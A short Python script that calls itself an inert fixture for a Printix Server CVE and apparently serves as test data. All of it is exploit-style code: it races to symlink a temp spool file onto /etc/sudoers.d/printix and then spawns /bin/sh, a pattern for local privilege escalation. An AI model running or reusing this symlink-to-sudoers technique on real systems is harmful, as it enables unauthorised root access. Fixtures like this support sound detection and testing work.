# CVE-2020-17640 Printix Server (inert fixture).
import os
import sys

SPOOL = sys.argv[1] if len(sys.argv) > 1 else "/tmp/printix-spool.tmp"


def exploit():
    for _ in range(1000):
        try:
            os.symlink("/etc/sudoers.d/printix", SPOOL)
            break
        except OSError:
            continue
    cmd = "/bin/sh"
    os.execv(cmd, [cmd])


exploit()
